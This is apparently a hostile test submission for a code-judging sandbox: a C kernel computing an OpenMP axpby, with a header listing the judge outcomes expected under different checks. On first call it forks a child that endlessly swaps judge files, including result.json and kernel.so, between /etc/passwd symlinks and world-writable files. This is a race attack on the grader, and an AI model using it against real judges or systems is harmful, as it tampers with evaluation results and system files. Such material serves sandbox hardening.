/* A child swaps every file in reach between a regular file and a link, over and over, while the parent is judged.
 * row: 14
 * twin: r02_region_in_a_helper.c
 * without check, imports: accepted, security-violation, runtime-error, no-offload, wrong-answer
 * without check, imports, narrow: accepted, security-violation, runtime-error
 */
#include <fcntl.h>
#include <stdint.h>
#include <unistd.h>

static void swap(const char *path)
{
    unlink(path);
    (void)!symlink("/etc/passwd", path);
    unlink(path);
    close(open(path, O_CREAT | O_WRONLY, 0666));
}

void kernel(const double *x, double *y, double alpha, double beta, int64_t N)
{
    static int started;
    if (!started++ && fork() == 0)
        for (;;) {
            swap("/tmp/judge_hostile_14");
            swap("/judge/kernel.so");
            swap("result.json");
        }
#pragma omp target teams distribute parallel for is_device_ptr(x, y)
    for (int64_t i = 0; i < N; i++)
        y[i] = alpha * x[i] + beta * y[i];
}
